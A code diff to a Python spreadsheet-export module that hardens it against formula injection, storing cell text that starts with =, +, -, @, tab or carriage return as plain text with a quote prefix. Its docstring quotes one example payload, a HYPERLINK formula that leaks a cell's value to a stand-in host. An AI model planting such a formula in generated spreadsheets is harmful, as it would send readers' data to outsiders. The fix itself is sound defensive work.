@@ -149,6 +149,22 @@ class Sheet:
     footer: Sequence[Sequence] = field(default_factory=list)
 
 
+# Text that Excel, LibreOffice or a CSV import would read as a formula if it began a cell.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def as_text(cell):
+    """The cell, written as text (never a formula) when its text begins like one.
+
+    openpyxl turns a string starting with "=" into a live formula: a scheme named
+    =HYPERLINK("http://x/?leak="&A1, …) would run in the reader's Excel. quotePrefix also keeps
+    Excel from reading the text as a formula when someone edits the cell."""
+    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    return cell
+
+
 def xlsx(
     rows: Iterable[Sequence] | None = None,
     *,
@@ -180,7 +196,7 @@ def xlsx(
         cell.font = font
         if alignment is not None:
             cell.alignment = alignment
-        return cell
+        return as_text(cell)
 
     written = 0
     for sheet in sheets:
